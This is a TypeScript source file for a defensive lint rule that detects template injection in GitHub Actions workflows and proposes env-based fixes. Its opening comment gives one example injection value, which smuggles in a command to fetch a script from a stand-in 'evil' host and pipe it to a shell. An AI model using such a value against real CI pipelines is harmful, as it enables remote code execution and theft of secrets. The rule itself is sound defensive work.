// `${{ }}` is expanded into the script's text before the shell (or node) sees it, so a value an outsider
// writes (an issue title, a branch name) becomes code: `"; curl evil | sh #`. An env variable is passed as
// data instead. The value is followed through env, step and job outputs and inputs (untrusted.ts); only
// what can reach the expression's result counts, so `${{ github.event.issue.title == 'x' }}` is fine.
import { untrustedSource } from "./untrusted.ts";
import { defineRule, type ModelPath } from "./types.ts";
import { expressionsOf } from "./util.ts";

// Action inputs that are code: the action runs the value as a script (keys lowercase).
const SCRIPT_INPUTS: Record<string, { input: string; language: "js" | "pwsh" | "shell" | "python" }> = {
  "actions/github-script": { input: "script", language: "js" },
  "azure/cli": { input: "inlinescript", language: "shell" },
  "azure/powershell": { input: "inlinescript", language: "pwsh" },
  "nick-fields/retry": { input: "command", language: "shell" },
  "jannekem/run-python-script-action": { input: "script", language: "python" },
  "mikefarah/yq": { input: "cmd", language: "shell" },
};

export const templateInjection = defineRule({
  id: "template-injection",
  severity: "error",
  confidence: "high",
  summary: "An expression whose value outsiders control is pasted into a run: script or a script input.",
  fix: "Pass the value through env: and read the variable in the script (\"$VALUE\" in bash, process.env.VALUE in github-script).",
  fixTs: "Write the script with the sh template (sh`echo ${github.event.issue.title}`), which passes each value through env: and quotes it; for a script input, pass the value in the step's env and read the variable.",
  visits: ["step"],
  documents: ["workflow", "action"],
  check(context) {
    const { step, job, workflow } = context;
    const sinks: Array<{ text: string; path: ModelPath; language: "js" | "pwsh" | "shell" | "python"; what: string }> = [];
    if (step.run !== undefined) {
      const shell = typeof step.value.shell === "string" ? step.value.shell.toLowerCase() : "";
      const language = shell.startsWith("pwsh") || shell.startsWith("powershell") ? "pwsh" : shell.startsWith("python") ? "python" : "shell";
      sinks.push({ text: step.run, path: [...step.path, "run"], language, what: "the script" });
    }
    const sink = step.uses?.kind === "action" ? SCRIPT_INPUTS[step.uses.name.toLowerCase()] : undefined;
    if (sink) {
      for (const [key, value] of Object.entries(step.with)) {
        if (key.toLowerCase() === sink.input && typeof value === "string") {
          sinks.push({ text: value, path: [...step.path, "with", key], language: sink.language, what: `the ${key} input of ${step.uses!.name}` });
        }
      }
    }
    for (const { text, path, language, what } of sinks) {
      const seen = new Map<string, number>();
      for (const expression of expressionsOf(text)) {
        const occurrence = seen.get(expression.text) ?? 0;
        seen.set(expression.text, occurrence + 1);
        const source = untrustedSource(expression.inner, { workflow, job, step });
        if (source === undefined) continue;
        const name = source.env ?? variableName(expression.inner);
        const read =
          language === "js" ? `process.env.${name}` : language === "pwsh" ? `$env:${name}` : language === "python" ? `os.environ["${name}"]` : `"$${name}"`;
        const shown = expression.text.replace(/\s+/g, " ");
        context.report({
          path,
          needle: expression.text,
          occurrence,
          ...(source.severity === "error" ? {} : { severity: source.severity }),
          message:
            source.severity === "error"
              ? `${shown} is pasted into ${what} before it runs; it is ${source.what}, so they can make it run commands of their choosing`
              : `${shown} is pasted into ${what} before it runs; it is ${source.what}, so such text would run as commands`,
          fix:
            source.env !== undefined
              ? `use ${read} in place of the expression: ${name} is already in the step's environment, and reading it there keeps the value data`
              : `add env: { ${name}: ${shown} } to the step and use ${read} in place of the expression`,
          fixTs: fixInTypeScript(expression.inner.trim(), name, read, language, source.env !== undefined),
        });
      }
    }
  },
});

// In workflows.ts, a shell script is written with the sh (or pwsh) template, which moves each value into
// env: and quotes it; a context path is written as the typed context itself (github.event.issue.title).
function fixInTypeScript(inner: string, name: string, read: string, language: string, inEnv: boolean): string {
  if (inEnv) return `use ${read} in place of the \${{ }} text: ${name} is already in the step's env`;
  const typed = /^[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)*$/.test(inner) ? inner : `expr.raw(${JSON.stringify(inner)})`;
  if (language === "shell") return `write the script with the sh template, interpolating the value: sh\`... \${${typed}} ...\`, which passes it through env: and quotes it`;
  if (language === "pwsh") return `write the script with the pwsh template, interpolating the value: pwsh\`... \${${typed}} ...\`, which passes it through env: and quotes it`;
  return `pass the value in the step's env (env: { ${name}: ${typed} }) and use ${read} in place of the \${{ }} text`;
}

// A readable variable name from the expression's last path segment: github.event.issue.title -> TITLE.
function variableName(inner: string): string {
  const segments = inner.match(/[A-Za-z_][A-Za-z0-9_-]*/g) ?? [];
  const last = segments.at(-1) ?? "VALUE";
  const name = last.replace(/-/g, "_").toUpperCase();
  return name === "GITHUB" || name === "EVENT" || name === "TOJSON" ? "VALUE" : name;
}
